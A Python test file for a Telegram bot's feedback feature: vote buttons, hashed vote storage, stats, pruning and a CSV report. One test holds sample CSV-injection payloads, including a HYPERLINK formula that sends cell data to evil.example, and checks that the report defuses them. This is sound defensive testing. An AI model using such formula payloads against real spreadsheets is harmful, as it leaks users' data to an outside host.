"""Feedback: 👍/👎 under every answer, stored once per user, unanswered questions logged; /stats and the report."""

from __future__ import annotations

import sqlite3

from telegram import Update

from bot import feedback
from bot.config import FeedbackConfig, GroupsConfig, load_feedback_config
from tests.fakebotapi import ALICE, BOB, PRIVATE_CHAT, parse_html
from tests.fakeretriever import FakeRetriever
from tests.helpers import started

ADMIN = {"id": 4242, "is_bot": False, "first_name": "Admin"}
ADMIN_CHAT = {"id": 4242, "type": "private", "first_name": "Admin"}


def buttons(params: dict) -> dict[str, str]:
    rows = params["reply_markup"]["inline_keyboard"]
    return {b["text"]: b["callback_data"] for row in rows for b in row}


async def test_votes_are_stored_once_per_user_and_shown_in_stats(make_bot, fake_bot_api, tmp_path):
    db = tmp_path / "feedback.sqlite"
    application = make_bot(FakeRetriever(found_every=2), admins=frozenset({ADMIN["id"]}),
                           groups=GroupsConfig(log_path=tmp_path / "chatlog.sqlite"),
                           feedback=FeedbackConfig(log_path=db))
    feed = lambda u: application.process_update(Update.de_json(u, application.bot))  # noqa: E731
    async with started(application):
        await feed(fake_bot_api.message_update("巴西足球比分是多少"))  # 1st search: not found
        await feed(fake_bot_api.message_update("口罩产量是多少"))  # 2nd: found, with buttons
        answer = next(c for c in fake_bot_api.calls if c.method == "sendMessage" and "reply_markup" in c.params)
        data = buttons(answer.params)
        assert data["👍"].startswith("vote:") and len(data["👎"].encode()) <= 64
        fake_bot_api.forget_calls()
        await feed(fake_bot_api.callback_update(data["👍"], answer.result, user=ALICE))
        await feed(fake_bot_api.callback_update(data["👎"], answer.result, user=ALICE))  # a second press: ignored
        await feed(fake_bot_api.callback_update(data["👎"], answer.result, user=BOB))
        await feed(fake_bot_api.callback_update("vote:deadbeef:up", answer.result, user=BOB))  # unknown answer
        toasts = [p.get("text") for p in fake_bot_api.sent("answerCallbackQuery")]
        assert toasts == [feedback.THANKS, feedback.ALREADY, feedback.THANKS, feedback.EXPIRED]
        await feed(fake_bot_api.message_update("/stats", user=ADMIN, chat=ADMIN_CHAT))
    stats = parse_html(fake_bot_api.sent("sendMessage")[-1]["text"])[0]
    assert "👍 1 · 👎 1（1 条回答）· 没找到 1 次" in stats
    gaps = stats.split("没答好的问题")[1]
    assert "• 巴西足球比分是多少  1 / 0" in gaps and "• 口罩产量是多少  0 / 1" in gaps
    # Stored on disk with the question, the passages and the time; user and private chat ids only hashed.
    conn = sqlite3.connect(db)
    (question, passages, at, chat), = conn.execute("SELECT question, passages, at, chat FROM answers")
    assert question == "口罩产量是多少" and passages == "[1, 2, 3, 4]" and at > 0
    assert chat.startswith("p:") and str(PRIVATE_CHAT["id"]) not in chat
    voters = conn.execute("SELECT voter, vote FROM votes ORDER BY vote").fetchall()
    assert [v for _, v in voters] == ["down", "up"] and all(v.startswith("u:") for v, _ in voters)
    assert not any(str(u["id"]) in v for u in (ALICE, BOB) for v, _ in voters)
    conn.close()


async def test_every_page_of_an_answer_carries_the_vote_buttons(make_bot, fake_bot_api):
    application = make_bot(FakeRetriever(found_every=1), passages=1, max_passages=4)
    async with started(application):
        await application.process_update(Update.de_json(fake_bot_api.message_update("口罩"), application.bot))
        first = fake_bot_api.calls[-1]
        more = buttons(first.params)["更多 ▸"]
        await application.process_update(Update.de_json(fake_bot_api.callback_update(more, first.result),
                                                         application.bot))
    pages = [p for p in fake_bot_api.sent("sendMessage") if "reply_markup" in p]
    assert len(pages) == 2
    assert buttons(pages[0])["👍"] == buttons(pages[1])["👍"]  # one answer, one vote


def test_prune_keeps_recent_feedback_only():
    log = feedback.FeedbackLog(":memory:")
    log.record_answer("old", "1", "旧问题", [1], at=1_000.0)
    log.vote("old", "u:x", "up", at=1_000.0)
    log.record_not_found("1", "旧的没找到", at=1_000.0)
    log.record_answer("new", "1", "新问题", [2], at=100_000.0)
    log.record_not_found("1", "新的没找到", at=100_000.0)
    assert log.prune(now=100_000.0 + 86400, max_days=1.5) == 3
    assert log.counts() == {"answers": 1, "up": 0, "down": 0, "not_found": 1}
    assert [q for q, _, _ in log.gaps()] == ["新的没找到"]
    log.close()


def test_the_report_lists_gaps_and_votes_as_csv(tmp_path, capsys):
    db = tmp_path / "f.sqlite"
    log = feedback.FeedbackLog(db)
    log.record_answer("k1", "-100", "口罩产量", [7, 8], at=1_600_000_000.0)
    log.vote("k1", "u:a", "down", at=1_600_000_000.0)
    log.vote("k1", "u:b", "up", at=1_600_000_000.0)
    for _ in range(2):
        log.record_not_found("-100", "巴西足球", at=1_600_000_000.0)
    log.close()
    assert feedback.report_main(["--db", str(db)]) == 0
    rows = capsys.readouterr().out.splitlines()
    assert rows == ["kind,question,not_found,down,up,passages,time_utc",
                    "gap,巴西足球,2,0,,,", "gap,口罩产量,0,1,,,",
                    'voted,口罩产量,,1,1,"[7, 8]",2020-09-13 12:26']
    assert feedback.report_main(["--db", str(tmp_path / "none.sqlite")]) == 1
    capsys.readouterr()
    from bot.__main__ import main

    assert main(["report", "--db", str(db)]) == 0  # python -m bot report
    assert capsys.readouterr().out.splitlines()[1] == "gap,巴西足球,2,0,,,"


def test_feedback_config_is_read_relative_to_the_config_file(tmp_path):
    config = load_feedback_config({"log_path": "var/f.sqlite", "retention_days": 3}, tmp_path)
    assert config.log_path == tmp_path / "var/f.sqlite" and config.retention_days == 3
    assert load_feedback_config({"log_path": ""}).log_path is None


def test_vote_buttons_go_under_the_answer_buttons():
    from telegram import InlineKeyboardButton, InlineKeyboardMarkup

    keyboard = feedback.with_vote_buttons(InlineKeyboardMarkup([[InlineKeyboardButton("全文", callback_data="full:ab:0")]]),
                                          "ab")
    assert [[b.text for b in row] for row in keyboard.inline_keyboard] == [["全文"], ["👍", "👎"]]


def test_the_report_defuses_spreadsheet_formulas(tmp_path, capsys):
    """OWASP CSV injection: a cell a spreadsheet would evaluate starts with a single quote, the rest as asked."""
    import csv
    import io

    db = tmp_path / "f.sqlite"
    log = feedback.FeedbackLog(db)
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx",
               "＝1+1"]
    for at, question in enumerate(hostile + ["口罩 = 多少", "2-1"]):
        log.record_not_found("-100", question, at=1_600_000_000.0 + at)
    log.record_answer("k1", "-100", "=1+1", [1], at=1_600_000_000.0)
    log.vote("k1", "u:a", "down", at=1_600_000_000.0)
    log.close()
    assert feedback.report_main(["--db", str(db)]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
    questions = {row[1] for row in rows[1:]}
    assert {"'" + q for q in hostile} | {"'=1+1", "口罩 = 多少", "2-1"} == questions  # nothing else changed


def test_the_report_refuses_a_file_that_is_not_a_feedback_log_and_changes_nothing(tmp_path, capsys):
    other = tmp_path / "other.sqlite"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE people (name TEXT)")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    garbage = tmp_path / "garbage.sqlite"
    garbage.write_bytes(b"not a database at all\n" * 100)
    for path in (other, garbage):
        assert feedback.report_main(["--db", str(path)]) == 1
        out, err = capsys.readouterr()
        assert out == "" and err.startswith("error: ") and "not a feedback log" in err and len(err.splitlines()) == 1
    assert other.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["garbage.sqlite", "other.sqlite"]


def test_the_report_names_a_bad_config_in_one_line(tmp_path, capsys):
    (tmp_path / "config.toml").write_text("[feedback\nlog_path = 'f.sqlite'\n", encoding="utf-8")
    assert feedback.report_main(["--config", str(tmp_path / "config.toml")]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1 and err[0].startswith("config error: ") and "TOML" in err[0]
